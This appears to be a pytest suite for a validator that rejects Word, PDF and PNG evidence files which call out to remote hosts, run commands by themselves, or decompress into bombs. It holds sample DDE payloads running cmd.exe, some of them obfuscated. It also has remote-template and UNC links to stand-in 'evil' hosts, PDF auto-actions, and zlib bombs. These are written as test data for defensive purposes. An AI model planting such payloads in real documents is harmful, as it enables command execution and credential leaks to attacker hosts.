"""A file that calls elsewhere, starts something by itself or swells in its reader is refused."""

import io
import zlib
from collections.abc import Callable
from typing import Any

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, Pdf

from programmes.evidence import inflating, office, pdf, pictures
from programmes.evidence.archives import Budget
from programmes.evidence.faults import Fault
from programmes.evidence.judging import judged
from tests.programmes import evidence_files as files
from tests.programmes.evidence_files import MB

WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
UNC = r"\\evil\a.docx"


def word(body: str) -> bytes:
    text = f'<?xml version="1.0"?><w:document xmlns:w="{WORD}"><w:body>{body}</w:body></w:document>'
    return files.office(more={"word/footer1.xml": text.encode()})


def instruction(*pieces: str) -> str:
    return "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)


def char(kind: str) -> str:
    return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'


def field(*pieces: str, inside: str = "") -> str:
    shown = char("separate") + "<w:r><w:t>1</w:t></w:r>" + char("end")
    return char("begin") + instruction(*pieces) + inside + shown


def simple(words: str) -> str:
    return f'<w:fldSimple w:instr="{words}"/>'


def related(what: str, target: str, *, external: bool = True) -> bytes:
    part = files.relations(what, target, external=external)
    return files.office(more={"word/_rels/settings.xml.rels": part})


def verdict(content: bytes) -> str:
    try:
        return judged(io.BytesIO(content)).code
    except Fault as fault:
        return str(fault.code)


@pytest.mark.parametrize(
    ("body", "code"),
    [
        (instruction("DD&#69;AUTO c:\\cmd.exe"), "active"),
        (instruction("DD", "EAUTO c:\\cmd.exe"), "active"),
        (field("D", "DE", " cmd x"), "active"),
        (field("dde cmd x"), "active"),
        (char("begin") + instruction("DD", "E cmd x"), "active"),
        (simple("&#x44;DE cmd x"), "active"),
        (field("QUOTE 68 68 69 65 85 84 79"), "active"),
        (field(" c:\\cmd.exe", inside="") + field("", inside=field("PAGE")), "active"),
        (field("INCLUDETEXT &quot;https://evil.example/a.docx&quot;"), "remote"),
        (field("INCLUDEPICTURE ", "&quot;ht", "tp://evil/a.png&quot; \\d"), "remote"),
        (field(f"INCLUDETEXT {UNC}"), "remote"),
        (field(r"INCLUDETEXT \\\\evil\\share\\a.docx"), "remote"),
        (field("INCLUDEPICTURE ", inside=field("DOCVARIABLE a")), "remote"),
        (simple(f"INCLUDEPICTURE &quot;{UNC}&quot;"), "remote"),
        (field("IMPORT http://evil/a.png"), "remote"),
        (field(f"LINK Excel.Sheet.12 &quot;{UNC}&quot; R1C1"), "remote"),
        (field("HYPERLINK &quot;file://evil/a&quot;"), "remote"),
        (field(f"HYPERLINK \\l &quot;a&quot; &quot;{UNC}&quot;"), "remote"),
        (field("PAGE", inside="</w:broken>"), "broken"),
        ((char("begin") + instruction("IF")) * 60, "too_much"),
        (instruction("a" * 70_000), "too_much"),
    ],
)  # fmt: skip
def test_a_field_is_judged_as_word_reads_it(body, code):
    assert verdict(word(body)) == code


@pytest.mark.parametrize(
    "body",
    [
        field("PAGE"),
        field('TOC \\o "1-3" \\h \\z \\u'),
        field('HYPERLINK "https://gialai.gov.vn/" \\o "Cổng" \\t "_blank"'),
        field('HYPERLINK \\l "_Toc1"', inside="") + field("PAGEREF _Toc1 \\h"),
        field('LINK Excel.Sheet.12 "C:\\\\so-lieu.xlsx" "Sheet1!R1C1:R2C2" "R1C1:R5C5" \\a \\p'),
        field('INCLUDEPICTURE "D:\\\\anh.png" \\* MERGEFORMAT'),
        field("IF ", inside=field("MERGEFIELD ten")),
        field('QUOTE "DDE là viết tắt"'),
        simple(" NUMPAGES  \\* MERGEFORMAT "),
        char("end") + "<w:r><w:t>INCLUDETEXT http://a.vn</w:t></w:r>",
    ],
)
def test_the_fields_of_honest_documents_are_taken(body):
    assert verdict(word(body)) == "docx"


@pytest.mark.parametrize(
    ("what", "target"),
    [
        ("hyperlink", "file://evil/share/x.exe"),
        ("hyperlink", "file:///C:\\Windows\\System32\\calc.exe"),
        ("hyperlink", UNC),
        ("hyperlink", "%5C%5Cevil/x"),
        ("hyperlink", "ms-word:ofe|u|https://evil.example/a.docx"),
        ("attachedTemplate", "\\\\evil\\x.dotm"),
        ("attachedTemplate", "file:////evil/x.dotm"),
        ("attachedTemplate", "ftp://evil/x.dotm"),
        ("externalLinkPath", "https://evil.example/a.xlsx"),
        ("image", "//evil/a.png"),
    ],
)
@pytest.mark.parametrize("external", [True, False])
def test_a_relation_that_leads_away_is_refused_with_or_without_its_mode(what, target, external):
    assert verdict(related(what, target, external=external)) == "remote"


@pytest.mark.parametrize(
    ("what", "target"),
    [
        ("hyperlink", "https://gialai.gov.vn/"),
        ("hyperlink", "mailto:vanthu@gialai.gov.vn"),
        ("hyperlink", "Ph%E1%BB%A5%20l%E1%BB%A5c.docx"),
        ("hyperlink", "#Sheet2!A1"),
        ("attachedTemplate", "file:///C:\\Users\\a\\Normal.dotm"),
        ("attachedTemplate", "C:\\Users\\a\\Normal.dotm"),
        ("externalLinkPath", "so-lieu.xlsx"),
        ("image", "cid:image001.png@01D9"),
        ("image", "NULL"),
    ],
)
def test_relations_of_honest_documents_are_taken(what, target):
    assert verdict(related(what, target)) == "docx"


def test_an_encoding_declared_with_blanks_is_seen():
    head = b'<?xml version="1.0" encoding = "UTF-7"?><a/>'

    assert verdict(files.office(more={"word/a.xml": head})) == "broken"


def test_without_the_reading_of_fields_the_split_command_is_taken(monkeypatch):
    """Twin: it is the reading that refuses it."""
    monkeypatch.setattr(office, "judge_fields", lambda read, where: None)

    assert verdict(word(instruction("DD", "EAUTO c:\\cmd.exe"))) == "docx"


ADDRESS = Dictionary(S=Name.URI, URI="https://evil.example/")


def opening(action: object) -> Callable[[Pdf], None]:
    return lambda made: setattr(made.Root, "OpenAction", action)


def _indirect(made: Pdf) -> None:
    made.Root.OpenAction = made.make_indirect(Dictionary(S=Name.URI, URI="https://evil.example/"))


def _page(made: Pdf) -> None:
    made.pages[0].obj.AA = Dictionary(O=ADDRESS)


def _note(**more: Any) -> Callable[[Pdf], None]:
    def change(made: Pdf) -> None:
        note = Dictionary(Type=Name.Annot, Subtype=Name.Link, Rect=[0, 0, 9, 9], **more)
        made.pages[0].obj.Annots = Array([note])

    return change


def _loop(made: Pdf) -> None:
    action = made.make_indirect(Dictionary(S=Name.Named, N=Name.NextPage))
    action.Next = Array([action, action])
    made.Root.OpenAction = action


@pytest.mark.parametrize(
    ("change", "code"),
    [
        (opening(Dictionary(S=Name.SubmitForm, F="http://evil")), "pdf_script"),
        (opening(Dictionary(S=Name.GoToR, F=UNC)), "pdf_script"),
        (_note(A=Dictionary(S=Name.GoToR, F=UNC)), "pdf_script"),
        (opening(ADDRESS), "pdf_script"),
        (_indirect, "pdf_script"),
        (opening(Dictionary(S=Name.Named, N=Name.Print, Next=ADDRESS)), "pdf_script"),
        (opening(Dictionary(S=Name.Named, N=Name.Print, Next=[ADDRESS])), "pdf_script"),
        (_page, "pdf_script"),
        (_note(AA=Dictionary(PV=ADDRESS)), "pdf_script"),
        (_loop, "too_much"),
    ],
)
def test_a_pdf_that_calls_elsewhere_is_refused(change, code):
    assert verdict(files.pdf(change)) == code


@pytest.mark.parametrize(
    "change",
    [
        _note(A=ADDRESS),
        lambda made: opening(Array([made.pages[0].obj, Name.Fit]))(made),
        opening(Dictionary(S=Name.GoTo, D="a")),
    ],
)
def test_a_link_to_a_page_and_a_first_view_are_taken(change):
    assert verdict(files.pdf(change)) == "pdf"


def _swollen(size: int, layers: int, **words: object) -> bytes:
    content = b"0" * size
    for _layer in range(layers):
        content = zlib.compress(content, 9)

    def change(made: Pdf) -> None:
        stream = pikepdf.Stream(made, content, **words)
        stream.Filter = Array([Name.FlateDecode] * layers) if layers > 1 else Name.FlateDecode
        made.pages[0].obj.Contents = stream

    return files.pdf(change, stream_decode_level=pikepdf.StreamDecodeLevel.none)


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (lambda: _swollen(200 * MB, 1), "bomb"),
        (lambda: _swollen(200 * MB, 2), "bomb"),
        (lambda: _swollen(200 * MB, 1, Subtype=Name.Image, Width=9, Height=9), "bomb"),
        (lambda: _swollen(20 * MB, 1), "pdf"),
        (lambda: _swollen(20 * MB, 2), "pdf"),
        (lambda: _swollen(9 * MB, 1, Subtype=Name.Image, Width=2000, Height=1500), "pdf"),
    ],
)
def test_a_pdf_that_swells_is_refused(content, expected):
    assert verdict(content()) == expected


PACKED = {
    b"zTXt": b"Comment\0\0",
    b"iCCP": b"sRGB\0\0",
    b"iTXt": b"XML:com.adobe.xmp\0\1\0vi\0\0",
}


@pytest.mark.parametrize("name", PACKED)
@pytest.mark.parametrize(("size", "expected"), [(60 * MB, "bomb"), (MB, "png")])
def test_a_png_whose_texts_or_profile_swell_is_refused(name, size, expected):
    chunk = files.chunk(name, PACKED[name] + zlib.compress(b"0" * size, 9))

    assert verdict(files.png(more=chunk)) == expected


def test_a_plain_text_of_a_png_is_not_unpacked():
    assert verdict(files.png(more=files.chunk(b"iTXt", b"a\0\0\0\0\0Pleiku"))) == "png"


def test_damaged_bytes_are_followed_as_far_as_they_go():
    budget = Budget(10_000)

    inflating.spend(zlib.compress(b"0" * 5000)[:-6] + b"\xff" * 9, 1, budget)

    assert 0 < budget.left <= 5000


def test_without_the_measure_the_bombs_are_taken(monkeypatch):
    """Twin: it is the measure that refuses them."""
    for module in (pdf, pictures):
        monkeypatch.setattr(module, "spend", lambda packed, layers, budget: None)
    chunk = files.chunk(b"zTXt", b"a\0\0" + zlib.compress(b"0" * 60 * MB, 9))

    assert verdict(files.png(more=chunk)) == "png"
    assert verdict(_swollen(200 * MB, 1)) == "pdf"
